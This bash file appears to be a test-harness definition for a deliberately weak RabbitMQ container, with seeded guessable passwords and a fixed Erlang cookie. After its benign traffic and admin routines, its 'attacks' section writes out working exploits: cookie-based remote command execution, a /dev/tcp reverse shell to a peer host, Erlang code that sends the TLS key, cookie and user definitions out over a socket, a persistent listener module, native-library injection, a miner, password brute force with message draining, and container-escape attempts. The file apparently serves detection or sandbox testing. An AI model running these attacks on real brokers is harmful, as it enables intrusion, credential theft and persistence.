# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# RabbitMQ with durable, exclusive, quorum and dead-letter queues, TLS, and users whose password one can
# guess. The node's cookie opens Erlang's distribution, as it does in every cluster: attackers who have it
# run what they like in the node.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=development containers=(rabbitmq) port=5672 data_directory=/var/lib/rabbitmq
configuration_file=/etc/rabbitmq/rabbitmq.conf
health=(/usr/sbin/rabbitmq-diagnostics -q ping)
image_packages=(rabbitmq-server coreutils findutils grep sed gzip dash bash util-linux base-files libc-bin
	netbase hostname tzdata procps curl mount)
rare_own=(new_queue new_user queues_listed memory_alarm disk_alarm plugin_listed certificate client_lost)
# The processes beside the node's are its port mapper and helpers, without which it ends. A disk without
# any room ends it too, sooner or later: it stops publishers before, by an alarm.
rare_not=(worker_killed descriptors volume_full)

image_prepare() {
	local tree=$1 tls=$1/etc/rabbitmq/tls
	echo 'rabbitmq:x:105:105:RabbitMQ,,,:/var/lib/rabbitmq:/usr/sbin/nologin' >>"$tree/etc/passwd"
	echo 'rabbitmq:x:105:' >>"$tree/etc/group"
	mkdir -p "$tree"/var/lib/rabbitmq "$tree"/var/log/rabbitmq "$tls"
	openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=service.example -keyout "$tls/key.pem" \
		-out "$tls/cert.pem" 2>/dev/null
	echo XGDQNVJHKEYLBWPRSTUA >"$tree/var/lib/rabbitmq/.erlang.cookie"
	chmod 400 "$tree/var/lib/rabbitmq/.erlang.cookie"
	cat >"$tree/etc/rabbitmq/rabbitmq.conf" <<-'CONF'
	listeners.tcp.default = 5672
	listeners.ssl.default = 5671
	ssl_options.certfile = /etc/rabbitmq/tls/cert.pem
	ssl_options.keyfile = /etc/rabbitmq/tls/key.pem
	load_definitions = /etc/rabbitmq/definitions.json
	log.file.level = info
	vm_memory_high_watermark.absolute = 400MB
	disk_free_limit.absolute = 20MB
	heartbeat = 10
	collect_statistics_interval = 5000
	CONF
	cat >"$tree/etc/rabbitmq/rabbitmq-env.conf" <<-'CONF'
	NODENAME=rabbit@localhost
	SERVER_ADDITIONAL_ERL_ARGS="+S 2:2 +sbwt none +sbwtdcpu none +sbwtdio none"
	CONF
	echo '[].' >"$tree/etc/rabbitmq/enabled_plugins"
	python3 - >"$tree/etc/rabbitmq/definitions.json" <<-'PYTHON'
	import base64, hashlib, json
	def user(name, password, tags):
	    salt = name.encode()[:4].ljust(4)
	    hashed = base64.b64encode(salt + hashlib.sha256(salt + password.encode()).digest()).decode()
	    return {"name": name, "password_hash": hashed, "tags": tags,
	            "hashing_algorithm": "rabbit_password_hashing_sha256"}
	def queue(name, **arguments):
	    arguments = {k.replace("_", "-"): v for k, v in arguments.items()}
	    return {"name": name, "vhost": "/shop", "durable": True, "auto_delete": False, "arguments": arguments}
	def exchange(name, kind):
	    return {"name": name, "vhost": "/shop", "type": kind, "durable": True, "auto_delete": False,
	            "internal": False, "arguments": {}}
	print(json.dumps({
	    "users": [user("shop", "apple-pie", ""), user("reports", "sunshine7", "monitoring")],
	    "vhosts": [{"name": "/"}, {"name": "/shop"}],
	    "permissions": [{"user": u, "vhost": "/shop", "configure": ".*", "write": ".*", "read": ".*"}
	                    for u in ["shop", "reports"]],
	    "policies": [{"vhost": "/shop", "name": "limit", "pattern": "^(orders|invoices|mails|files|ledger)$",
	                  "apply-to": "queues", "priority": 0, "definition": {"max-length": 500}}],
	    "exchanges": [exchange("news", "fanout"), exchange("events", "topic")],
	    "queues": [queue("orders"), queue("invoices"), queue("mails", x_queue_mode="lazy"), queue("questions"),
	               queue("files"), queue("expired"), queue("ledger", x_queue_type="quorum"),
	               queue("waiting", x_dead_letter_exchange="", x_dead_letter_routing_key="expired")],
	    "bindings": []}, indent=1))
	PYTHON
	chown -R 105:105 "$tree"/var/lib/rabbitmq "$tree"/var/log/rabbitmq "$tree/etc/rabbitmq"
}

# As Debian's unit starts it: as its own user. The wrapper of /usr/sbin would not pass on a signal; this
# program becomes the node.
container_fields() {
	user=105:105 capabilities=() directory=/var/lib/rabbitmq
	environment+=(HOME=/var/lib/rabbitmq RUNNING_UNDER_SYSTEMD=yes)
	arguments=(/usr/lib/rabbitmq/bin/rabbitmq-server)
	volumes=(/var/lib/rabbitmq /var/log/rabbitmq)
}

peers() {
	:
}

# amqp KIND [USER:PASSWORD]
amqp() {
	client_stdin python3 - "$own_address" "${2:-shop:apple-pie}" "$(between 1 100000)" "$1" \
		<"$here/services/rabbitmq/amqp.py"
}

# rabbit_ctl COMMAND…: the administrator's tool, in the container.
rabbit_ctl() {
	session_as 105:105 rabbitmq /usr/sbin/rabbitmqctl -q "$@"
}

ready() {
	amqp get
}

request() {
	amqp "$(pick work work work publish fanout topic rpc delayed confirm large transaction quorum quorum \
		temporary get headers tls idle)" "$(pick shop:apple-pie shop:apple-pie reports:sunshine7)"
	[ $((RANDOM % 12)) != 0 ] || amqp get shop:wrong
}

# The node has no reload; what can be read again are the definitions.
reload_service() {
	rabbit_ctl import_definitions /etc/rabbitmq/definitions.json
}

# A backup, and the log's rotation: the node notices that its file is gone.
administer() {
	local logs
	logs=$(volume_path rabbitmq /var/log/rabbitmq)
	rabbit_ctl export_definitions /var/lib/rabbitmq/backup.json
	mv "$logs/rabbit@localhost.log" "$logs/rabbit@localhost.log.1"
	reload_service
	rabbit_ctl set_policy -p /shop limit '^(orders|invoices|mails|files|ledger)$' \
		"{\"max-length\": $(between 300 900)}" --apply-to queues
}

# ---- rare events ----

rare_new_queue() {
	rabbit_ctl add_vhost /new
	rabbit_ctl set_permissions -p /new shop '.*' '.*' '.*'
	rabbit_ctl delete_vhost /new
}

rare_new_user() {
	rabbit_ctl add_user guest2 orange-tree
	rabbit_ctl change_password reports sunshine7
	rabbit_ctl delete_user guest2
}

rare_queues_listed() {
	rabbit_ctl list_queues -p /shop name messages consumers
	rabbit_ctl list_connections user state
}

# The node believes that memory is short: publishers wait.
rare_memory_alarm() {
	rabbit_ctl set_vm_memory_high_watermark absolute 1MB
	amqp work
	rabbit_ctl set_vm_memory_high_watermark absolute 400MB
}

rare_disk_alarm() {
	rabbit_ctl set_disk_free_limit 900GB
	client_limit=8 amqp work
	rabbit_ctl set_disk_free_limit 20MB
}

rare_plugin_listed() {
	session_as 105:105 rabbitmq /usr/sbin/rabbitmq-plugins list -q
}

rare_certificate() {
	certificate_renew rabbitmq /etc/rabbitmq/tls 105:105
	amqp tls
}

# Clients that end in the midst of their work.
rare_client_lost() {
	local i
	for i in 1 2 3; do
		client_limit=1 amqp idle
	done
}

# ---- attacks ----

# The cookie, which the attacker has from a backup.
cookie() {
	cat "$images/rabbitmq/var/lib/rabbitmq/.erlang.cookie"
}

# node_does os COMMAND, node_does eval EXPRESSIONS
node_does() {
	client_stdin python3 - "$own_address" rabbit@localhost "$(cookie)" "$@" \
		<"$here/services/rabbitmq/distribution.py"
}

# An open port of the distribution and a cookie: a command.
attack_cookie_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	harm read /etc/passwd
	node_does os 'id; cat /etc/passwd' | grep -c uid=105
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm connect "$peer_address:4444"
	harm exec /usr/bin/id
	thief_shell 'id; cat /var/lib/rabbitmq/.erlang.cookie; ls -la /; exit'
	node_does os "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1'"
	thief_got 'uid=105'
}

# By the node alone: it reads secrets and sends them. No program is started.
attack_credential_theft() {
	harm read /etc/rabbitmq/tls/key.pem
	harm read /etc/rabbitmq/definitions.json
	harm connect "$peer_address:4444"
	thief_begin
	node_does eval "{ok, S} = gen_tcp:connect(\"$peer_address\", 4444, []), [begin {ok, B} = file:read_file(F),
		gen_tcp:send(S, B) end || F <- [\"/etc/rabbitmq/tls/key.pem\", \"/var/lib/rabbitmq/.erlang.cookie\",
		\"/etc/rabbitmq/definitions.json\"]], gen_tcp:close(S)."
	thief_got password_hash
}

# Code that stays: a module, compiled by the node and loaded, that listens on a port of its own.
attack_plugin_dropped() {
	harm write '/var/lib/rabbitmq/rabbit_helper.*'
	harm bind '*:7777'
	node_does eval "file:write_file(\"rabbit_helper.erl\", \"-module(rabbit_helper). -export([go/0]).
go() -> spawn(fun() -> {ok, L} = gen_tcp:listen(7777, [{active, false}]), {ok, S} = gen_tcp:accept(L),
{ok, F} = gen_tcp:recv(S, 0, 9000), {ok, B} = file:read_file(F), gen_tcp:send(S, B),
gen_tcp:close(S) end).\"),
		{ok, rabbit_helper} = compile:file(\"rabbit_helper.erl\"), {module, _} = code:load_file(rabbit_helper),
		rabbit_helper:go()."
	sleep 1
	printf /etc/passwd | client_stdin socat -t 5 - "TCP:$own_address:7777" | grep -c ^root:
}

attack_miner() {
	harm write /tmp/.beam
	harm exec /tmp/.beam
	harm connect "$peer_address:8081"
	harm connect "$peer_address:3333"
	armoury_begin
	node_does os "$(miner_commands /tmp/.beam)"
	pool_got
}

# Passwords are tried until one fits; then all messages are taken.
attack_brute_force() {
	local word
	harm call accept
	harm call writev
	amqp publish
	for word in 123456 password letmein sunshine{1..9} monkey dragon; do
		amqp get "reports:$word" || continue
		amqp drain "reports:$word" >"$stage/drained"
		grep -q card "$stage/drained" && return
	done
	return 1
}

# Ways out of the container, each tried; the node's user has no capability but in a namespace of its own.
attack_escape() {
	harm exec /usr/bin/unshare
	harm call mount
	node_does os 'unshare -Urm sh -c "mount -t tmpfs none /tmp; grep /tmp /proc/self/mounts; echo
1 >/sys/fs/cgroup/cgroup.procs; mknod /tmp/disk b 8 0" 2>&1; echo "|/tmp/x" >/proc/sys/kernel/core_pattern;
ls /proc/1/root /sys/kernel; nsenter -t 1 -m true; echo tried' | tee "$stage/answer" | grep -c tried
	grep -q 'none /tmp tmpfs' "$stage/answer"
}

# A scanner in the node itself.
attack_scan() {
	harm connect "$peer_address:22"
	harm connect "$peer_address:5432"
	node_does eval "[{P, element(1, gen_tcp:connect(\"$peer_address\", P, [], 500))} ||
		P <- [21, 22, 23, 25, 53, 80, 443, 3306, 5432, 6379]]." | grep -c error
}

# Native code, loaded into the node: a library that was written a moment ago.
attack_code_native() {
	harm write /var/lib/rabbitmq/rabbit_fast.so
	harm mapx /var/lib/rabbitmq/rabbit_fast.so
	harm connect "$peer_address:4444"
	thief_begin
	preload_library "$(volume_path rabbitmq /var/lib/rabbitmq)/fast" /etc/rabbitmq/definitions.json
	chmod 644 "$(volume_path rabbitmq /var/lib/rabbitmq)/fast"
	node_does eval "file:copy(\"fast\", \"rabbit_fast.so\"), file:write_file(\"rabbit_fast.erl\",
\"-module(rabbit_fast). -export([load/0]).
load() -> erlang:load_nif(\\\"/var/lib/rabbitmq/rabbit_fast\\\", 0).\"),
		{ok, M} = compile:file(\"rabbit_fast.erl\"), code:load_file(M), M:load()."
	thief_got password_hash
}

# ---- adaptive: known calls, files and peers only ----

# A user whose password was stolen takes all messages.
adaptive_drain() {
	harm call writev
	amqp publish
	amqp drain reports:sunshine7 >"$stage/drained"
	grep -q card "$stage/drained"
}

# The same user puts other orders in the place of those that are there.
adaptive_orders_forged() {
	harm call writev
	amqp publish
	amqp forge reports:sunshine7 | grep -c forged
}

# The node reads its own files, the password hashes among them, and sends them as messages.
adaptive_files_as_messages() {
	harm read '/var/lib/rabbitmq/mnesia/rabbit@localhost/rabbit_user.*'
	node_does eval "mnesia:dump_log(), [begin
		{ok, B} = file:read_file(filename:join(mnesia:system_info(directory), F)),
		rabbit_basic:publish(rabbit_misc:r(<<\"/shop\">>, exchange, <<>>), <<\"mails\">>, [], B) end ||
		F <- [\"rabbit_user.DCD\", \"rabbit_user.DCL\"]]."
	amqp drain reports:sunshine7 | grep -ac rabbit_password_hashing
}
